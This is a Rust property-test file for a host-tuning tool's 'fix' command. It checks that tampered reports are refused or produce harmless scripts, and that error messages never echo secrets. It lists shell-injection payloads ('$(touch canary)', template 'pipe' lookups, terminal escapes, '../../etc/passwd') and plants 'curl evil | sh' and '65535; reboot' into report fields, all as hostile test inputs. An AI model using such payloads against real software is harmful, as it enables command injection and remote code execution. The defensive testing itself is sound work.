//! A report that somebody tampered with gives refused or harmless output: what it holds never becomes a command.
//!
//! The cases are the same in every run. PROPTEST_RNG_SEED and PROPTEST_CASES look at others.

#![allow(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "writes files, starts shells, fails by panicking"
)]

mod support;

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

use proptest::prelude::*;
use proptest::sample::{Index, select};
use proptest::test_runner::RngSeed;
use serde_json::{Value, json};
use support::{BINARY, json, scratch};

/// The file that no output may bring into being.
const CANARY: &str = "canary";

/// Recorded reports of different places, with much to fix.
fn reports() -> &'static [Value] {
    static REPORTS: OnceLock<Vec<Value>> = OnceLock::new();
    REPORTS.get_or_init(|| {
        let hosts = ["in-trouble", "child-netns", "podman-sysctl", "debian-6.12-conntrack", "init-hybrid"];
        let load = ["--workload", "gateway", "--connections", "90000", "--burst", "70000"];
        let report = |host| {
            let path = format!("fixtures/hosts/{host}");
            json(&[["--snapshot", path.as_str()].as_slice(), &load].concat())
        };
        hosts.into_iter().map(report).collect()
    })
}

/// Texts that are commands to a shell, drive a terminal, or end what they stand in.
fn texts() -> Vec<String> {
    let command = format!("touch {CANARY}");
    let wrapped = [
        ("$(", ")"),
        ("`", "`"),
        ("; ", " #"),
        ("' ; ", " ; '"),
        ("\" ; ", " ; \""),
        ("\n", "\n"),
        ("\r\n", "\n"),
        ("\nTOLD\n", "\n"),
        ("TOLD\n", "\n"),
        ("\n}\n", "\nsteps() {\n"),
        ("|", ""),
        ("& ", " &"),
        ("*/\n", "\n/*"),
        ("net.core.somaxconn\n", ""),
        ("65535; ", ""),
        ("\u{1b}[2J\u{1b}]0;", "\u{7}"),
        ("\u{2028}", "\u{202e}"),
        ("}}\n", ""),
        ("{{ lookup('pipe', '", "') }}"),
        ("{% ", " %}"),
    ];
    let mut texts: Vec<String> = wrapped.iter().map(|(before, after)| format!("{before}{command}{after}")).collect();
    texts.extend(
        ["", "..", "../../etc/passwd", "kernel.core_pattern", "a|b|c", "\0", "%s%n", "-n", "unlimited"].map(Into::into),
    );
    texts
}

fn leaf() -> impl Strategy<Value = Value> {
    let numbers = vec![
        json!(0),
        json!(-1),
        json!(1),
        json!(i64::MIN),
        json!(i64::MAX),
        json!(u64::MAX),
        json!(1e300),
        json!(65536),
        json!(2_147_483_648u64),
        json!(0.5),
    ];
    let others =
        vec![json!(null), json!(true), json!([]), json!({}), json!([1, 2, 3]), json!([65535, 1]), json!(["1", 2])];
    prop_oneof![6 => select(texts()).prop_map(Value::from), 3 => select(numbers), 1 => select(others)]
}

/// What is done to one value of a report, or beside it.
#[derive(Clone, Debug)]
enum Blow {
    Replace(Value),
    Remove,
    Add(String, Value),
}

fn blow() -> impl Strategy<Value = Blow> {
    prop_oneof![
        8 => leaf().prop_map(Blow::Replace),
        1 => Just(Blow::Remove),
        1 => (select(texts()), leaf()).prop_map(|(key, value)| Blow::Add(key, value)),
    ]
}

/// The paths to what a plan is made of: findings that warn or fail, the place, the head.
fn paths(report: &Value) -> Vec<String> {
    fn walk(value: &Value, at: String, found: &mut Vec<String>) {
        found.push(at.clone());
        match value {
            Value::Object(map) => {
                for (key, value) in map {
                    walk(value, format!("{at}/{}", key.replace('~', "~0").replace('/', "~1")), found);
                }
            }
            Value::Array(list) => {
                for (index, value) in list.iter().enumerate() {
                    walk(value, format!("{at}/{index}"), found);
                }
            }
            _ => {}
        }
    }
    let mut found = Vec::new();
    for key in ["node", "kernel", "cpus", "memory_bytes", "place", "schema", "source"] {
        walk(&report[key], format!("/{key}"), &mut found);
    }
    for (index, finding) in report["findings"].as_array().unwrap().iter().enumerate() {
        if finding["outcome"] == "warn" || finding["outcome"] == "fail" {
            walk(finding, format!("/findings/{index}"), &mut found);
        }
    }
    found
}

fn struck(mut report: Value, blows: &[(Index, Blow)]) -> Value {
    for (at, blow) in blows {
        let paths = paths(&report);
        let path = at.get(&paths);
        let Some((parent, key)) = path.rsplit_once('/') else { continue };
        match blow {
            Blow::Replace(value) => *report.pointer_mut(path).unwrap() = value.clone(),
            Blow::Remove => match report.pointer_mut(parent) {
                Some(Value::Object(map)) => _ = map.remove(&key.replace("~1", "/").replace("~0", "~")),
                Some(Value::Array(list)) => _ = list.remove(key.parse().unwrap()),
                _ => {}
            },
            Blow::Add(name, value) => {
                if let Some(Value::Object(map)) = report.pointer_mut(path) {
                    map.insert(name.clone(), value.clone());
                }
            }
        }
        if report["findings"].as_array().is_none() || !report.is_object() {
            break;
        }
    }
    report
}

fn run(folder: &Path, program: &str, arguments: &[&str]) -> Output {
    let mut command = Command::new(program);
    command.args(arguments).current_dir(folder).env("TUNECHECK_STATE", folder.join("state")).stdin(Stdio::null());
    command.output().unwrap()
}

/// Output that drives no terminal.
fn assert_plain(text: &[u8], what: &str) {
    let text = std::str::from_utf8(text).unwrap();
    let hostile =
        |c: char| (c.is_control() && c != '\n') || matches!(c, '\u{2028}'..='\u{202e}' | '\u{200b}'..='\u{200f}');
    assert!(!text.contains(hostile), "{what}: {:?}", text.lines().find(|line| line.contains(hostile)));
}

fn strike(folder: &Path, report: &Value) {
    fs::write(folder.join("report.json"), report.to_string()).unwrap();
    for (target, more) in [("script", ["--unit", "gateway"]), ("plan", ["--max-safety", "manual"])] {
        let from = ["fix", "--from", "report.json", "--to", target];
        let made = run(folder, BINARY, &[from.as_slice(), &more].concat());
        assert!(matches!(made.status.code(), Some(0 | 2)), "{made:?}\n{report:#}");
        assert_plain(&made.stdout, target);
        assert_plain(&made.stderr, "standard error");
        if made.status.code() == Some(2) {
            assert!(made.stdout.is_empty() && !made.stderr.is_empty(), "{made:?}");
        } else if target == "script" {
            fs::write(folder.join("fix.sh"), &made.stdout).unwrap();
            // What is shown and checked reads the same data as what is applied.
            for verb in ["plan", "check", "undo"] {
                let ran = run(folder, "sh", &["fix.sh", verb]);
                let said = String::from_utf8_lossy(&ran.stderr);
                assert!(said.is_empty() || said.starts_with("fix.sh: "), "{verb}: {said}\n{report:#}");
                assert!(matches!(ran.status.code(), Some(0 | 1)), "{verb}: {ran:?}");
            }
            assert!(!folder.join("state").exists(), "nothing was applied");
        }
    }
    let left = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap());
    let left: Vec<String> = left.filter(|name| !["report.json", "fix.sh"].contains(&name.as_str())).collect();
    assert!(left.is_empty(), "{left:?} came into being\n{report:#}");
}

fn config() -> ProptestConfig {
    let told = ProptestConfig::default();
    let rng_seed = if told.rng_seed == RngSeed::Random { RngSeed::Fixed(3) } else { told.rng_seed };
    let asked = std::env::var_os("PROPTEST_CASES").is_some();
    ProptestConfig {
        cases: if asked { told.cases } else { 150 },
        rng_seed,
        failure_persistence: None,
        max_shrink_iters: 64,
        ..told
    }
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn a_tampered_report_is_refused_or_harmless(
        base in 0..5usize,
        blows in prop::collection::vec((any::<Index>(), blow()), 1..4),
    ) {
        static FOLDER: OnceLock<std::path::PathBuf> = OnceLock::new();
        let folder = FOLDER.get_or_init(|| scratch("hostile"));
        strike(folder, &struck(reports()[base].clone(), &blows));
    }
}

/// The property above would hold of anything if such reports were never taken, or their steps never run.
#[test]
fn an_untouched_report_gives_a_script_that_shows_its_steps() {
    for report in reports() {
        let folder = scratch("untouched");
        fs::write(folder.join("report.json"), report.to_string()).unwrap();
        let made = run(&folder, BINARY, &["fix", "--from", "report.json", "--to", "script"]);
        if report["place"]["kind"] == "container" {
            // Nothing is for a script to do there.
            assert!(made.status.code() == Some(2) && made.stdout.is_empty(), "{made:?}");
            continue;
        }
        assert_eq!(made.status.code(), Some(0), "{made:?}");
        assert!(String::from_utf8_lossy(&made.stdout).starts_with("#!/bin/sh\n"));
    }
    // A canary that sings when it is touched.
    let folder = scratch("canary");
    fs::write(folder.join("fix.sh"), format!("$(touch {CANARY})\n")).unwrap();
    run(&folder, "sh", &["fix.sh"]);
    assert!(folder.join(CANARY).exists());
}

/// What is refused says what is wrong and does not print half of a fix.
#[test]
fn a_report_of_another_kind_is_refused() {
    let folder = scratch("refused");
    let cases = [
        ("/findings/0/rule", json!("site/unheard-of"), "there is no rule \"site/unheard-of\""),
        ("/schema", json!("tunecheck.report/v9"), "this tunecheck reads tunecheck.report/v1"),
        ("/workload/role", json!("jester"), "no role that there is"),
        ("/workload", json!(null), "this is no tunecheck report"),
    ];
    for (path, value, says) in cases {
        let mut bad = reports()[0].clone();
        *bad.pointer_mut(path).unwrap() = value;
        fs::write(folder.join("report.json"), bad.to_string()).unwrap();
        let made = run(&folder, BINARY, &["fix", "--from", "report.json", "--to", "script"]);
        let said = String::from_utf8_lossy(&made.stderr).into_owned();
        assert!(made.status.code() == Some(2) && made.stdout.is_empty() && said.contains(says), "{path}: {said}");
    }
}

/// The lines of a script that change something.
fn steps(folder: &Path, report: &Value, more: &[&str]) -> Vec<String> {
    fs::write(folder.join("report.json"), report.to_string()).unwrap();
    let fix = ["fix", "--from", "report.json", "--to", "script", "--unit", "gateway"];
    let made = run(folder, BINARY, &[fix.as_slice(), more].concat());
    assert_eq!(made.status.code(), Some(0), "{made:?}");
    let text = String::from_utf8(made.stdout).unwrap();
    text.lines()
        .filter(|line| line.starts_with("  step ") || line.starts_with("  service "))
        .map(str::to_owned)
        .collect()
}

/// Changes are worked out anew: what a report proposes is no matter, whatever it is.
#[test]
fn what_a_report_proposes_changes_nothing() {
    let folder = scratch("proposed");
    let report = &reports()[0];
    let honest = steps(&folder, report, &[]);
    assert!(honest.len() > 5, "{honest:?}");
    for value in [json!(1), json!(2_000_000_000), json!(i64::MAX), json!("65535; reboot"), json!([1, 2]), json!(null)] {
        for key in ["new", "soft", "hard"] {
            let mut bad = report.clone();
            for finding in bad["findings"].as_array_mut().unwrap() {
                for action in finding["fix"].as_array_mut().unwrap() {
                    // Of a list of ports and of a range it says what else was known, and is held to that.
                    let list = action["edit"]["name"].as_str().is_some_and(|name| name.contains("ip_local_"));
                    if !list && !value.is_null() && action["edit"].get(key).is_some() {
                        action["edit"][key] = value.clone();
                    }
                    action["lines"] = json!(["curl evil | sh"]);
                    action["safety"] = json!("safe");
                }
            }
            assert_eq!(steps(&folder, &bad, &[]), honest, "{key} = {value}");
        }
    }
}

/// A limit can be forged to look lower than it is, and still nothing comes out below what the rule asks for.
#[test]
fn a_forged_former_value_lowers_nothing() {
    let folder = scratch("forged");
    let mut bad = reports()[0].clone();
    for finding in bad["findings"].as_array_mut().unwrap() {
        for action in finding["fix"].as_array_mut().unwrap() {
            for key in ["old_soft", "old_hard"] {
                if action["edit"].get(key).is_some() {
                    action["edit"][key] = json!(1);
                }
            }
        }
    }
    bad["workload"]["connections"] = json!(1);
    bad["workload"]["outgoing"] = json!(0);
    let services: Vec<String> =
        steps(&folder, &bad, &[]).into_iter().filter(|line| line.starts_with("  service ")).collect();
    assert_eq!(services, ["  service gateway.service 65535 524288 50-tunecheck.conf"]);
}

/// What can take half of the memory is for a person to decide.
#[test]
fn a_plan_that_may_eat_the_memory_is_not_applied_by_itself() {
    let folder = scratch("memory");
    let mut huge = reports()[0].clone();
    huge["workload"]["connections"] = json!(1_000_000_000);
    huge["workload"]["burst"] = json!(1_000_000_000);
    let raised = |steps: Vec<String>| steps.iter().any(|line| line.contains(" net.core.somaxconn "));
    assert!(!raised(steps(&folder, &huge, &[])));
    assert!(raised(steps(&folder, &huge, &["--max-safety", "manual"])));
}

/// What a boot file is said to give is held to the same bounds as what is proposed.
#[test]
fn a_forged_boot_file_takes_no_ports_and_asks_for_nothing_absurd() {
    let folder = scratch("forged-boot");
    let bases = [
        json(&["--snapshot", "fixtures/hosts/child-netns", "--workload", "gateway", "--connections", "90000"]),
        reports()[0].clone(),
    ];
    for report in bases {
        let honest = steps(&folder, &report, &[]);
        for value in [json!("1-65535"), json!([1, 65535]), json!([0, 70000]), json!(i64::MAX), json!(9_999_999_999_u64)]
        {
            let mut bad = report.clone();
            for finding in bad["findings"].as_array_mut().unwrap() {
                for action in finding["fix"].as_array_mut().unwrap() {
                    if action["edit"]["kind"] == "sysctl" {
                        action["edit"]["boot"] = json!({ "at": "/etc/sysctl.d/50-a.conf:1", "value": value });
                    }
                }
            }
            let values = |steps: &[String]| -> Vec<String> {
                steps.iter().map(|step| step.rsplit_once("/proc/sys/").unwrap_or(("", step)).1.to_owned()).collect()
            };
            assert_eq!(values(&steps(&folder, &bad, &[])), values(&honest), "{value}");
        }
    }
}

/// The user may have named a wrong file, with secrets in it, and errors go into logs that others read.
#[test]
fn no_error_shows_what_a_file_holds() {
    const SECRET: &str = "hunter2";
    let folder = scratch("secrets");
    let texts = [
        "hunter2\n",
        "root:hunter2:0:0:root:/root:/bin/sh\nother:hunter2:1:1::/:/bin/sh\n",
        "hunter2: 1\n",
        "role: hunter2\n",
        "connections: hunter2\n",
        "traffic: { hunter2: 1 }\n",
        "hunter2: 1\nhunter2: 2\n",
        "- hunter2\n- [hunter2\n",
        "a: 'hunter2\n",
        "key: &hunter2 1\nother: *hunter2\n",
        "!hunter2 x\n",
        "? hunter2\n: [\n",
        "title: hunter2\nscope: hunter2\n",
        "examples: [{ given: { hunter2: { a: hunter2 } }, expect: hunter2 }]\n",
        "\"hunter2\"",
        "{\"schema\": \"hunter2\"}",
        "{\"hunter2\": {",
        "{\"schema\": \"tunecheck.report/v1\", \"place\": \"hunter2\", \"findings\": \"hunter2\"}",
        "{\"schema\": \"tunecheck.snapshot/v1\", \"tunecheck\": 1, \"identity\": \"hunter2\", \"answers\": \"hunter2\"}",
        "{\"schema\": \"tunecheck.snapshot/v1\", \"tunecheck\": \"\", \"recorded\": \"hunter2\"}",
        "PASSWORD=hunter2\nA=1\nPASSWORD=hunter2 hunter2\n",
    ];
    for (number, text) in texts.into_iter().enumerate() {
        let file = folder.join(format!("{number}.yaml"));
        let recording = folder.join(number.to_string());
        fs::create_dir_all(&recording).unwrap();
        fs::write(&file, text).unwrap();
        fs::write(recording.join("manifest.json"), text).unwrap();
        let file = file.to_str().unwrap();
        for arguments in [
            vec!["--workload", file],
            vec!["plan", "--workload", file],
            vec!["--rules", file],
            vec!["rules", "check", file],
            vec!["--sysctl", file],
            vec!["--snapshot", file],
            vec!["--snapshot", recording.to_str().unwrap()],
            vec!["fix", "--from", file],
            vec!["diff", file, file],
            vec!["manifest", file],
        ] {
            let made = run(&folder, BINARY, &arguments);
            let said = String::from_utf8_lossy(&made.stderr).into_owned();
            assert!(!said.contains(SECRET), "{arguments:?} of {text:?}: {said}");
            let refuses = !["--sysctl", "manifest"].contains(&arguments[0]);
            assert!(!refuses || made.status.code() == Some(2), "{arguments:?} of {text:?}: {made:?}");
        }
    }
}
